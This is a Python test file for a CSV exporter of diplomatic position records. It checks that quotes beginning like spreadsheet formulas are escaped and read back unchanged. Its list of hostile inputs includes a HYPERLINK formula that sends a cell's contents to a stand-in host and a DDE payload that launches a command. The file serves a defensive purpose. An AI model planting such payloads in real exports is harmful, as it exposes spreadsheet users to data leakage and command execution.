"""Tables that spreadsheets open rightly, do not run, and that give every quote back to the letter."""

from __future__ import annotations

import csv

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from verbale.exchange import read_positions_csv, write_matrix_csv, write_positions_csv
from verbale.exchange.tables import POSITION_COLUMNS, STARTS_OF_FORMULAS
from verbale.model import Speaker
from verbale.register import Register


@pytest.fixture
def register(tmp_path):
    with Register(tmp_path / "r.db") as opened:
        yield opened


def raw(path):
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


HOSTILE = [
    pytest.param('=HYPERLINK("http://x.example/?"&A1,"open")', True, id="a formula"),
    pytest.param("+1 is void", True, id="plus"),
    pytest.param("-1 is void", True, id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", True, id="at"),
    pytest.param("\t=1+1", True, id="tab"),
    pytest.param("\r=1+1", True, id="carriage return"),
    pytest.param("\n=1+1", True, id="line feed"),
    pytest.param("   =1+1", True, id="blanks before"),
    pytest.param("＝１＋１", True, id="full width"),
    pytest.param("'tis void", False, id="an apostrophe of the text's own"),
    pytest.param('"void", he said;\r\nnot — fair', False, id="quotation marks and line breaks"),
    pytest.param("1-1=0", False, id="signs inside"),
    pytest.param("声明，选举无效", False, id="Chinese"),
    pytest.param("لا نعترف", False, id="Arabic"),
]


@pytest.mark.parametrize(("quote", "guarded"), HOSTILE)
def test_hostile_quotes_are_guarded_and_come_back(register, draft, invented, tmp_path, quote, guarded):
    letter = draft().says("NLD-X", quote, ("vote", "against", quote))
    register.add(letter.document, letter.statements)
    path = tmp_path / "positions.csv"
    write_positions_csv(register, path, gazetteer=invented)
    (written,), (read,) = raw(path), list(read_positions_csv(path))
    exact = register.positions()[0].quote
    assert read["quote"] == exact
    assert written["quote"] == ("'" + exact if guarded else exact)
    assert written["guarded"] == ("quote" if guarded else "")
    assert written["quote"][0] not in STARTS_OF_FORMULAS


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(quote=st.text("=+-@'\"\r\n\t ,;aé选", min_size=1, max_size=12), source=st.text("=@'a; ", max_size=5))
def test_any_quote_comes_back(register, draft, invented, tmp_path, quote, source):
    letter = draft("any.txt").says("NLD-X", quote, ("vote", "against", quote), source=source)
    added = register.add(letter.document, letter.statements)
    path = tmp_path / "positions.csv"
    write_positions_csv(register, path, gazetteer=invented)
    (read,) = (row for row in read_positions_csv(path) if row["document_id"] == added.document_id)
    (row,) = register.positions(document=added.document_id)
    assert (read["quote"], read["source"]) == (row.quote, source)


def test_a_row_tells_all_there_is(register, draft, invented, tmp_path):
    letter = draft("@letter.txt").claims(
        "NLD-X",
        "AON SUD-X",
        "They reject it.",
        ("vote", "against", "reject it", "VALE"),
        speaker=Speaker("A. Writer", "Minister"),
        channel="letter",
        date="2031",
        place="Northaven",
        original_language="fr",
        source="@norland",
        translation="unofficial",
        reported_by=("Daily", "Radio"),
    )
    register.add(letter.document, letter.statements)
    path = tmp_path / "positions.csv"
    write_positions_csv(register, path, gazetteer=invented, language="fr")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfposition_id,")
    (row,) = read_positions_csv(path)
    assert tuple(row) == POSITION_COLUMNS
    (kept,) = register.positions()
    assert row == {
        "position_id": kept.id, "statement_id": kept.statement_id, "document": "@letter.txt",
        "actor": "AON; SUD-X", "actor_name": "Union des océans; Sudrie", "issue": "vote", "stance": "against",
        "act": "declare", "target": "VALE", "quote": kept.quote, "kind": "claim", "asserted_by": "NLD-X",
        "speaker_name": "A. Writer", "speaker_role": "Minister", "channel": "letter", "date": "2031",
        "place": "Northaven", "language": "en", "original_language": "fr", "source": "@norland",
        "translation": "unofficial", "reported_by": "Daily; Radio", "via": "", "duplicate_of": "",
        "start": str(kept.start_in_source),
        "end": str(kept.end_in_source), "page": "", "ocr_confidence": "",
            "document_id": kept.document_id, "guarded": "document; source",
    }  # fmt: skip


def test_the_matrix_as_a_table(register, draft, invented, tmp_path):
    text = "void, fair"
    letter = (
        draft()
        .says("SUD-X AON", text, ("vote", "against", "void"))
        .says("SUD-X", text, ("law", "for", "fair"), reported_by=("Daily",))
        .claims("SUD-X", "NLD-X", text, ("law", "for", "fair"))
    )
    register.add(letter.document, letter.statements)
    path = tmp_path / "matrix.csv"
    write_matrix_csv(register, path, gazetteer=invented)
    assert raw(path) == [
        {"actor": "AON", "actor_name": "Alliance of Oceans", "law": "", "vote": "against", "guarded": ""},
        {"actor": "NLD-X", "actor_name": "Norland", "law": "for (claimed)", "vote": "", "guarded": ""},
        {"actor": "SUD-X", "actor_name": "Sudria", "law": "for (reported)", "vote": "against", "guarded": ""},
    ]


def test_an_empty_register_has_tables_with_headings_alone(register, invented, tmp_path):
    write_positions_csv(register, tmp_path / "p.csv", gazetteer=invented)
    write_matrix_csv(register, tmp_path / "m.csv", gazetteer=invented)
    assert (tmp_path / "p.csv").read_text(encoding="utf-8-sig").split() == [",".join(POSITION_COLUMNS)]
    assert raw(tmp_path / "m.csv") == []
